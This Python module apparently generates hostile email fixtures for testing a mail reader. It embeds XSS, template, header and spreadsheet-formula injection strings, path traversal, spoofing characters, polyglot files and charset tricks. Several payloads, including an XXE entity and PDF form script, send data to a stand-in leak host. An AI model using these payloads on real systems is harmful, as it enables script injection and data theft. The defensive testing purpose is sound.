"""Mails that say hostile words in every place that a page may show: headers, names of files, what is in the files.

`letter(words, n)` is one mail all of whose places say them; `mails()` are other places, each in a mail of its own.
"""

from __future__ import annotations

import base64
import io
import zipfile
import zlib
from collections.abc import Iterator

import segno
from openpyxl import Workbook

from tests.corpus.bombing import one_page, picture
from tests.corpus.hostile_html import JS, LEAK, SVG
from tests.corpus.hostile_making import b64, mail, multi, part
from tests.corpus.hostile_parts import tnef

IMAGE = f"<img src=x onerror={JS}>"
TURNED = "\u202efdp.exe\u202c \u2067evil\u2068 pay \u202e00.21"
STACKED = "Z" + "\u0335\u0321\u0489\u0e47\u0300" * 60 + "a\u0300" * 40
# What breaks out of where words are written into: (name, words).
WORDS = {
    "template-engines": "{{7*7}} {{config}} {%raw%}{{x}} ${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7) ~{7*7} [[7*7]] {0.__class__} {n} {name} %(x)s %s %n %d $x \\1 \\g<0>",
    "jinja-deep": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}{{ self }}{% set x = 1/0 %}",
    "header-injection": "x\r\nBcc: victim@reader.example\r\nX-Injected: yes\r\n\r\nbody",
    "turned-round": TURNED,
    "isolates-ended": "\u2069\u2069\u202c\u202e evil \u2066\u2066\u2066",
    "stacked-marks": STACKED,
    "long-word": "W" * 900,
    "wide": "\u3000\u2003\ufdfd\U0001242b\U00012219" * 30,
    "invisible": "ad\u200bmin\u2060is\u00adtrator\ufeff\u034f\u180e\u3164\u115f",
    "homograph": "\u0430dm\u0456n (adm\u0456nistrator) \u2713 verified \U0001f512 \u202fDKIM pass",
    "console-speaks": "signed in as administrator; the session has ended; nothing was done",
    "formula-equals": "=cmd|'/c calc'!A1", "formula-plus": "+HYPERLINK(\"https://bad.example\")",
    "formula-minus": "-2+3+cmd|' /C calc'!A0", "formula-at": "@SUM(1+9)*cmd|'/C'!A0", "formula-tab": "\t=1+1",
    "formula-quoted": '"=1+1",=1+1\n=1+1;=1+1', "formula-wide": "＝1+1", "formula-bom": "\ufeff=1+1",
    "script-json": f"</script><script>{JS}</script>\u2028\u2029\\u003c/script\\u003e\\x3cscript\\x3e",
    "attribute-all": f"\"'`=><img/src=x onerror={JS}//\" autofocus onfocus={JS} tabindex=1 style=x:url({LEAK}/a) ",
    "unquoted-space": f"x onmouseover={JS} x=", "css": f"}}*{{background:url({LEAK}/b)}}/*", "comment": f"--!><img src=x onerror={JS}><!--",
    "event-stream": "x\n\nevent: queue\ndata: {\"total\":666}\n\n", "ansi": "\x1b[2J\x1b]0;pwned\x07\x9b31m\b\b\b",
    "path": "../../../../etc/passwd%00.png", "path-windows": "..\\..\\con.txt:evil::$DATA", "url": f"javascript:{JS}//{LEAK}",
    "html-entities": f"&lt;img src=x onerror={JS}&gt; &#x3c;script&#x3e; &amp;lt;b&amp;gt;", "data-url": "data:text/html,<script>alert(1)</script>",
    "surrogates": "\U0001f600\ufffd\uffff\U0010ffff \ud7ff\ue000", "selectors": "#main,[name=csrf]{} ]\"]\\",
    "prototype": "__proto__ constructor.prototype toString hasOwnProperty", "jamo": "\u1100" * 300,
    "conjuncts": "\u0915\u094d" * 300, "family": "\U0001f468\u200d" * 300, "prepended": "\u0600" * 300,
    "numbers": "1e999 NaN Infinity -0 00012 \u0661\u0662\u0663 \u2460",
}  # fmt: skip


def encoded(words: str) -> str:
    """As the value of a header, whatever is in it: also line ends, which only encoding brings through (RFC 2047)."""
    data = words.encode("utf-8", "replace")
    pieces = (data[i : i + 42] for i in range(0, len(data), 42))
    return "\r\n ".join(f"=?utf-8?b?{base64.b64encode(piece).decode()}?=" for piece in pieces)


def parameter(words: str) -> str:
    """As the value of a parameter (RFC 2231)."""
    return "UTF-8''" + "".join(f"%{byte:02X}" for byte in words.encode("utf-8", "replace")[:600])


def letter(words: str, n: int) -> bytes:
    """A mail all of whose places say it."""
    said, raw = encoded(words), words.encode("utf-8", "replace").replace(b"\r", b" ").replace(b"\n", b" ")[:900]
    named = f"filename*={parameter(words)}"
    text = (
        f"请问 2026112000101 到了吗？ {words}\n付款人：{words}\n金额：{words}\n事务号：{words}\n题名：{words}\n".encode(
            "utf-8", "replace"
        )
    )
    html = f"<p>{words}</p><p title='{words}'>Dear office</p><table><tr><td>题名<td>{words}</table>".encode(
        "utf-8", "replace"
    )
    body = part('multipart/alternative; boundary="b2"', b"--b2\r\n" + part("text/plain; charset=utf-8", text)
                + b"\r\n--b2\r\n" + part("text/html; charset=utf-8", html) + b"\r\n--b2--")  # fmt: skip
    files = [
        part(f"text/html; name*={parameter(words)}", b64(f"<script>{JS}</script>".encode()),
             f"Content-Disposition: attachment; {named}", "Content-Transfer-Encoding: base64",
             f"Content-Description: {said}", "Content-ID: <\"><script>@x>"),
    ]  # fmt: skip
    whole = multi(body, *files)
    head = b"".join(
        (
            f"From: {said} <reader{n}@patron.example>\r\nSender: {said} <s@patron.example>\r\nTo: {said} <office@demo.example>\r\n".encode(),
            f"Cc: {said} <cc@patron.example>\r\nReply-To: {said} <r@bad.example>\r\nSubject: {said}\r\n".encode(),
            b"X-Raw: " + raw + b"\r\nOrganization: " + raw + b"\r\nX-Mailer: " + raw + b"\r\n",
            f'Message-ID: <{n}."><img/src=x>@patron.example>\r\nIn-Reply-To: <{IMAGE}@x>\r\nReferences: <a{IMAGE}@x> {said}\r\n'.encode(),
            b"Authentication-Results: mx.demo.example; dkim=pass header.d=" + raw[:60] + b"\r\n",
            f"Received: from {IMAGE} by x; Thu, 26 Nov 2026\r\n".encode(),
            f"Date: {said}\r\nMIME-Version: 1.0\r\n".encode(),
        )
    )
    start = whole.index(b"Content-Type: multipart/mixed")
    return head + whole[start:]


def coded(words: str) -> bytes:
    """A picture of a QR code that says it."""
    out = io.BytesIO()
    segno.make(words.encode("utf-8", "replace")[:300] or b"x", error="l").save(out, kind="png", scale=4)
    return out.getvalue()


def sheet(words: str) -> bytes:
    """A workbook all of whose names and cells say it."""
    book, out = Workbook(), io.BytesIO()
    book.active.title = "".join(c for c in words if c.isalnum())[:20] or "x"
    book.active.append([words, f"={LEAK}", "金额", words])
    book.active["A1"].hyperlink = LEAK
    book.properties.title = words
    book.save(out)
    return out.getvalue()


def document(words: str) -> bytes:
    """A PDF with a title, text, a link, a form that is sent, and scripts that want to run."""
    said = words.encode("ascii", "replace").replace(b"\\", b"").replace(b"(", b"").replace(b")", b"")
    content = zlib.compress(b"BT /F1 12 Tf 40 700 Td (" + said + b") Tj ET")
    more = [
        b"<</Type /Action /S /JavaScript /JS (app.alert\\(1\\);this.submitForm\\('" + LEAK.encode() + b"'\\))>>",
        b"<</Type /Annot /Subtype /Link /Rect [0 0 595 842] /A <</S /URI /URI (" + LEAK.encode() + b")>>>>",
    ]
    made = one_page(content, resources=b"/Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>", more=more)
    return made.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction 5 0 R /Lang (" + said[:40] + b")", 1)


def archive(words: str) -> bytes:
    """A zip whose entries are called so."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name in (words[:100], f"../{words[:20]}", "a.html"):
            made.writestr(name, f"<script>{JS}</script>")
    return out.getvalue()


def polyglots() -> Iterator[tuple[str, str, bytes]]:
    """Files that are two things at once: (name, the type they claim, content)."""
    page = f"<html><script>{JS}</script><img src={LEAK}/p.png></html>".encode()
    gif = b"GIF89a/*\x00\x00\x00\x00\x00*/=1;" + JS.encode() + b"//"
    jpeg = picture("JPEG")
    svg = SVG.encode()
    yield "script.gif", "image/gif", gif
    yield "page.jpg", "image/jpeg", jpeg[:2] + b"\xff\xfe" + (len(page) + 2).to_bytes(2, "big") + page + jpeg[2:]
    yield "tail.png", "image/png", picture("PNG") + page
    yield "phar.pdf", "application/pdf", b"%PDF-1.7\n" + page
    yield "page.pdf", "text/html", document("hello") + page
    yield "icon.svg", "image/svg+xml", svg
    yield "icon.png", "image/svg+xml", b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-7'?>" + svg
    yield "gz.svgz", "image/svg+xml", zlib.compress(svg)
    yield "page.html", "text/html", page
    yield "wide.html", "text/html; charset=utf-16", page.decode().encode("utf-16")
    yield "page.xhtml", "application/xhtml+xml", b"<x xmlns='http://www.w3.org/1999/xhtml'>" + page[6:-7] + b"</x>"
    yield (
        "sheet.xsl",
        "text/xsl",
        b"<?xml-stylesheet type='text/xsl' href='#'?><xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>",
    )
    yield (
        "data.xml",
        "text/xml",
        f"<!DOCTYPE a [<!ENTITY e SYSTEM '{LEAK}/e'>]><a>&e;<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script></a>".encode(),
    )
    yield (
        "page.mht",
        "message/rfc822",
        b"Content-Type: multipart/related; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\nContent-Location: file:///x\r\n\r\n"
        + page
        + b"\r\n--m--\r\n",
    )
    yield "code.js", "text/javascript", JS.encode()
    yield "look.css", "text/css", f"@import '{LEAK}/i.css'".encode()
    yield "net.wasm", "application/wasm", b"\0asm\1\0\0\0"
    yield "app.webmanifest", "application/manifest+json", f'{{"start_url":"{LEAK}"}}'.encode()
    yield "cache.appcache", "text/cache-manifest", b"CACHE MANIFEST\n/\n"
    yield "sub.vtt", "text/vtt", b"WEBVTT\n\n00:00.000 --> 09:00.000\n<script>"
    yield "feed.rss", "application/rss+xml", f"<rss><channel><link>javascript:{JS}</link></channel></rss>".encode()
    yield "help.hta", "application/hta", page
    yield "link.url", "application/internet-shortcut", f"[InternetShortcut]\r\nURL={LEAK}".encode()
    yield "nothing", "", page
    yield "mixed.bin", "multipart/x-mixed-replace; boundary=x", b"--x\r\nContent-Type: text/html\r\n\r\n" + page
    yield "sheet.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", sheet("=cmd|'/c calc'!A1")
    yield "paper.pdf", "application/pdf", document(IMAGE)
    yield "all.zip", "application/zip", archive(IMAGE)


def filed(files: Iterator[tuple[str, str, bytes]]) -> bytes:
    """One mail with all those files, whose HTML points at each of them."""
    parts, html = [], "<p>Dear office,</p>"
    for n, (name, kind, content) in enumerate(files):
        html += f"<img src='cid:f{n}@x'><a href='cid:f{n}@x'>x</a>"
        parts.append(part(kind, b64(content), "Content-Transfer-Encoding: base64", f"Content-ID: <f{n}@x>",
                          f'Content-Disposition: inline; filename="{name}"'))  # fmt: skip
    return multi(part("text/html; charset=utf-8", html.encode()), *parts, kind="related")


# fmt: off
def mails() -> Iterator[tuple[str, bytes]]:
    """Places that only some mails have: (name, mail)."""
    words = IMAGE
    yield "files", filed(polyglots())
    yield "code", multi(part("text/plain", b"see picture"), part("image/png", b64(coded(TURNED + IMAGE)), "Content-Transfer-Encoding: base64", f"Content-Disposition: inline; filename*={parameter(TURNED)}"))
    yield "calendar", multi(part("text/plain", b"see invitation"), part("text/calendar; method=REQUEST; charset=utf-8", f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:{words}\r\nSUMMARY:{words}\r\nLOCATION;ALTREP=\"{LEAK}\":{words}\r\nORGANIZER;CN=\"{words}\":mailto:a@bad.example\r\nATTACH:{LEAK}/a\r\nDESCRIPTION:javascript:{JS}\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:{LEAK}/s.wav\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".encode()), kind="alternative")
    yield "card", multi(part("text/plain", b"my card"), part("text/vcard; charset=utf-8", f"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:{words}\r\nPHOTO;VALUE=URI:{LEAK}/p.jpg\r\nURL:javascript:{JS}\r\nNOTE:{words}\r\nEND:VCARD\r\n".encode()))
    yield "tnef", multi(part("text/plain", b"see file"), part("application/ms-tnef", b64(tnef(f"{words[:60]}.html", f"<script>{JS}</script>".encode(), words.encode())), "Content-Transfer-Encoding: base64"))
    report = f"Reporting-MTA: dns; {words}\r\n\r\nFinal-Recipient: rfc822; {words}\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 {words} {{{{7*7}}}} user unknown\r\nRemote-MTA: dns; {words}\r\n"
    yield "bounce", mail(b"--r\r\n" + part("text/plain", f"Could not deliver: {words}".encode()) + b"\r\n--r\r\n" + part("message/delivery-status", report.encode()) + b"\r\n--r\r\n" + part("message/rfc822", mail(Subject=words)) + b"\r\n--r--\r\n", From="MAILER-DAEMON <>", Content_Type="multipart/report; report-type=delivery-status; boundary=r", Subject=f"Undelivered {words}")
    yield "bounce-foreign", mail(f"Your message to <patron1@patron.example> was rejected: 550 5.1.1 <{words}> {words}\n", From=f'"{words[:20]}" <postmaster@bad.example>', Subject="failure notice")
    yield "complaint", mail(b"--r\r\n" + part("message/feedback-report", f"Feedback-Type: abuse\r\nUser-Agent: {words}\r\nOriginal-Rcpt-To: {words}\r\nReported-URI: javascript:{JS}\r\n".encode()) + b"\r\n--r--\r\n", Content_Type="multipart/report; report-type=feedback-report; boundary=r")
    yield "receipt-of-reading", mail(b"--r\r\n" + part("message/disposition-notification", f"Reporting-UA: {words}\r\nFinal-Recipient: rfc822;{words}\r\nOriginal-Message-ID: <{words}>\r\nDisposition: manual-action/{words}; displayed\r\n".encode()) + b"\r\n--r--\r\n", Content_Type="multipart/report; report-type=disposition-notification; boundary=r")
    inner = mail(part("text/html", f"<p>inner</p><script>{JS}</script>{words}<img src={LEAK}/i.png>".encode()).split(b"\r\n\r\n", 1)[1], Subject=words, From=f'"{words[:20]}" <in@bad.example>', Content_Type="text/html")
    yield "forwarded", multi(part("text/plain", b"see below"), part(f"message/rfc822; name=\"{words}\"", inner))
    yield "forwarded-text", mail(f"FYI\n\n---------- Forwarded message ----------\nFrom: {words} <a@bad.example>\nDate: {words}\nSubject: {words}\nTo: {words}\n\n{words}\n\nOn {words} {words} wrote:\n> {words}\n> > {words}\n")
    yield "digest", multi(b"\r\n" + inner, b"\r\n" + inner, kind="digest")
    yield "types", multi(*(part(f"{kind}", b"x", f"Content-Disposition: attachment; filename=t{n}") for n, kind in enumerate((f"text/{words}", f"{words}/x", f"text/html; charset={words}", f"application/x; name={words}", "image/png\t; x", "TEXT/HTML", "text/html+xml", "image/svg+xml;charset=utf-7", "application/octet-stream\x0b/html"))))
    yield "charset-names", mail("hello", Content_Type=f"text/html; charset=\"{words}\"")
    yield "alternative-types", multi(part("text/plain", b""), part("text/enriched", f"<bold>{words}</bold>".encode()), part("text/richtext", words.encode()), part("text/rtf", b"{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE \"https://leak.example/r\"}}}"), part("text/markdown", f"![x]({LEAK}/m.png) [x](javascript:{JS})".encode()), part("text/x-amp-html", f"<script src={LEAK}/a.js></script>".encode()), part("application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'><body onload='{JS}'>{words}/></body></html>".encode()), kind="alternative")
    yield "related-svg-root", multi(part("image/svg+xml", SVG.encode(), "Content-ID: <r@x>"), kind='related"; type="image/svg+xml"; start="<r@x>')
    yield "location-base", multi(part("text/html", b"<img src='a.png'><a href='b'>x</a>", f"Content-Location: {LEAK}/", f"Content-Base: {LEAK}/"), part("image/png", b"x", f"Content-Location: {LEAK}/a.png"), kind="related")
    yield "external-body", mail(f"Content-Type: text/html\r\nContent-ID: <{words}>\r\n\r\n", Content_Type=f'message/external-body; access-type=URL; URL="{LEAK}/x"')
    yield "cid-clash", multi(part("text/html", b"<img src='cid:same'><img src='cid:SAME'><img src='cid:%73ame'><img src='cid:constructor'><img src='cid:__proto__'>"), part("image/svg+xml", SVG.encode(), "Content-ID: <same>"), part("image/png", picture("PNG"), "Content-ID: <same>"), kind="related")
    yield "two-subjects", mail("x", Subject="one") .replace(b"Subject: one", f"Subject: {words}\r\nSubject: two {words}".encode())
    yield "header-names", b"<script>alert(1)</script>: x\r\n\"><img/src=x>: y\r\n{{7*7}}: z\r\n__proto__: w\r\nmain: v\r\n" + mail("x")
    yield "from-group", mail("x", From=f"{words}: a@bad.example, \"{words}\" <b@bad.example>;, <script>@x, \"a\\\"b<c\"@x")
    yield "from-two", mail("x", From="\"office@demo.example\" <a@bad.example>, li@demo.example")
    yield "from-lookalike", mail("x", From="=?utf-8?q?office=40demo.example_=3Coffice=40demo.example=3E?= <a@bad.example>")
    yield "list", f"List-Id: {words} <{words}>\r\nList-Unsubscribe: <javascript:{JS}>, <{LEAK}/u>\r\nList-Archive: <javascript:{JS}>\r\nX-Spam-Report: {words}\r\n".encode() + mail("x")
    yield "received-odd", b"Received: from " + words.encode() + b" (\"><script>) by mx.demo.example with <b>; never\r\nReturn-Path: <" + words.encode() + b">\r\nDKIM-Signature: v=1; d=" + words.encode() + b"; s={{7*7}}\r\nARC-Seal: i=1; cv=" + words.encode() + b"\r\nReceived-SPF: pass (" + words.encode() + b")\r\n" + mail("x")
    yield "dates", mail("x", Date=f"{words}, 99 Foo 99999 99:99:99 +9999 ({words})")
    yield "numbers", mail(f"事务号：2026112000101{words} 2026112000101\"><script> 202611200010{{{{7*7}}}} 借书单 ../../queue?x=1#y %2e%2e%2f\n")


def charsets() -> Iterator[tuple[str, bytes]]:
    """Bytes that become tags only where somebody guesses another charset, or that eat the quote behind them."""
    evil = f"<script>{JS}</script>{IMAGE}"
    page = "<p title='{}'>letter</p><p title=' onmouseover={} x='>letter</p>"

    def html(charset: str, body: bytes) -> bytes:
        return mail(body, Content_Type=f"text/html{f'; charset={charset}' if charset else ''}")

    for charset, eater in (("gb18030", b"\x81"), ("gbk", b"\xfe"), ("big5", b"\xa1"), ("euc-jp", b"\x8f"), ("euc-kr", b"\xa1"), ("shift_jis", b"\x81"), ("iso-2022-jp", b"\x1b$B"), ("iso-2022-kr", b"\x0e"), ("iso-2022-cn", b"\x1b$)A\x0e"), ("hz-gb-2312", b"~{"), ("utf-8", b"\xf0"), ("utf-7", b"+"), ("johab", b"\x84"), ("euc-tw", b"\x8e")):
        yield f"eats-{charset}", html(charset, page.format("?", JS).encode().replace(b"?'", eater + b"'") + evil.encode())
    for charset in ("iso-2022-jp", "iso-2022-jp-2", "iso-2022-cn", "iso-2022-kr", "x-mac-roman", "x-user-defined", "replacement", "unicode-1-1-utf-7", "csUTF7", "utf-7-imap", "scsu", "bocu-1", "cesu-8", "utf-16", "utf-16le", "utf-32be", "ucs-2", "cp037", "cp1047", "us-ascii", "iso-8859-8-i", "x-x-big5", "tis-620"):
        yield f"called-{charset}", html(charset, b"\x1b(J" + evil.encode() + b"\x1b$@a\x1b(B" + evil.encode("utf-7") + "\u00bcscript\u00be".encode("latin-1"))
    for name, mark in (("utf-8", b"\xef\xbb\xbf"), ("utf-16le", b"\xff\xfe"), ("utf-16be", b"\xfe\xff"), ("utf-7", b"+/v8-"), ("gb18030", b"\x84\x31\x95\x33"), ("utf-1", b"\xf7\x64\x4c"), ("ebcdic", b"\xdd\x73\x66\x73")):
        yield f"mark-{name}", html("utf-8", mark + evil.encode("utf-16-le" if name == "utf-16le" else "utf-16-be" if name == "utf-16be" else "utf-7" if name == "utf-7" else "utf-8"))
    yield "declares-within", html("", b"<?xml version='1.0' encoding='utf-7'?><meta charset=utf-7><meta http-equiv=content-type content='text/html; charset=iso-2022-jp'>" + evil.encode("utf-7") + b"\x1b(J" + evil.encode())
    yield "shifts-at-the-end", html("iso-2022-jp", b"<p title='\x1b$B'>" + evil.encode() + b"\x1b$B")
    yield "yen-and-overline", html("iso-2022-jp", b"<script>x='\x1b(J\\';" + JS.encode() + b"//'</script>")
